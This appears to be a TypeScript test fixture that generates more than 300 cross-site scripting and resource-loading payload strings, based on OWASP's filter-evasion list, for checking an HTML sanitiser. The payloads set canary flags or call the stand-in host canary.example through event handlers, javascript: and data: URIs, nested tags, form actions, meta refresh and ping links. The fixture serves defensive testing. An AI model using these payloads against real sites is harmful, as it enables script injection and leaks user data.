/** Shapes of markup that has made browsers run scripts or load something: OWASP's evasion list and variations, written anew. */
const CALLS = ['window.__xss=1', 'top.__xss=1', "document.title='xss'"] as const;
const TAGS = [
  'script',
  'img',
  'svg',
  'body',
  'iframe',
  'object',
  'embed',
  'video',
  'audio',
  'details',
  'input',
  'math',
  'style',
  'link',
  'meta',
  'base',
  'form',
  'marquee',
  'template',
  'noscript',
  'a',
  'select',
  'textarea',
  'button',
  'source',
] as const;
const EVENTS = [
  'onerror',
  'onload',
  'onclick',
  'ontoggle',
  'onfocus',
  'onmouseover',
  'onanimationstart',
] as const;

const withEvents = TAGS.flatMap((tag) =>
  EVENTS.map(
    (event, index) => `<${tag} ${event}="${CALLS[index % CALLS.length] ?? ''}" autofocus open src=x href=x>`,
  ),
);

const SPECIAL = [
  '<script>window.__xss=1</script>',
  '<SCRIPT SRC=//canary.example/x.js></SCRIPT>',
  '<scr<script>ipt>window.__xss=1</scr</script>ipt>',
  '"><script>window.__xss=1</script>',
  "'><img src=x onerror=window.__xss=1>",
  '<img src="javascript:window.__xss=1">',
  '<a href="javascript:window.__xss=1">x</a>',
  '<a href="data:text/html,<script>window.__xss=1</script>">x</a>',
  '<a href="vbscript:window.__xss=1">x</a>',
  '<svg><script>window.__xss=1</script></svg>',
  '<svg/onload=window.__xss=1>',
  '<math><mtext></mtext><script>window.__xss=1</script></math>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD50b3AuX194c3M9MTwvc2NyaXB0Pg=="></object>',
  '<style>@import "http://canary.example/x.css";</style>',
  '<div style="background:url(http://canary.example/b.png)">x</div>',
  '<link rel=stylesheet href=http://canary.example/x.css>',
  '<link rel=prefetch href=http://canary.example/p><link rel=dns-prefetch href=//canary.example>',
  '<meta http-equiv=refresh content="0;url=http://canary.example/">',
  '<base href=http://canary.example/>',
  '<img srcset="http://canary.example/1.png 1x" src=http://canary.example/2.png>',
  '<video poster=http://canary.example/v.png src=http://canary.example/v.mp4 autoplay></video>',
  '<a ping=http://canary.example/ping href=#>x</a>',
  '<input onfocus=window.__xss=1 autofocus>',
  '<x contenteditable onblur=window.__xss=1>x</x>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
  '<!--><img src=x onerror=window.__xss=1>-->',
  '<![CDATA[<script>window.__xss=1</script>]]>',
  '&lt;script&gt;window.__xss=1&lt;/script&gt;',
  '&#60;script&#62;window.__xss=1&#60;/script&#62;',
  '\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e',
  '{{constructor.constructor("window.__xss=1")()}}',
  '${window.__xss=1}',
  'javascript:window.__xss=1',
  '<a href="https://good.example@canary.example/">x</a>',
  '<form action=http://canary.example/><button>send</button></form>',
  '<isindex type=image src=1 onerror=window.__xss=1>',
  '<table background="javascript:window.__xss=1">',
  '<bgsound src="javascript:window.__xss=1">',
  '\u202e<script>window.__xss=1</script>',
  'A\u0000<script>window.__xss=1</script>',
  '<img src=x:x onerror\u000a=window.__xss=1>',
  '<IMG """><SCRIPT>window.__xss=1</SCRIPT>">',
  '<<SCRIPT>window.__xss=1;//<</SCRIPT>',
  '<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>',
  '<button popovertarget=p>x</button><div id=p popover onbeforetoggle=window.__xss=1>x</div>',
] as const;

/** Padding and casings that filters have stumbled over. */
const varied = SPECIAL.flatMap((text) => [
  text,
  text.toUpperCase(),
  `  \t${text}`,
  text.replaceAll('<', '\u003c ').replaceAll('< ', '<'),
]);

/** More than 300 hostile texts, each once. */
export const HOSTILE_TEXTS: readonly string[] = [...new Set([...withEvents, ...varied])];
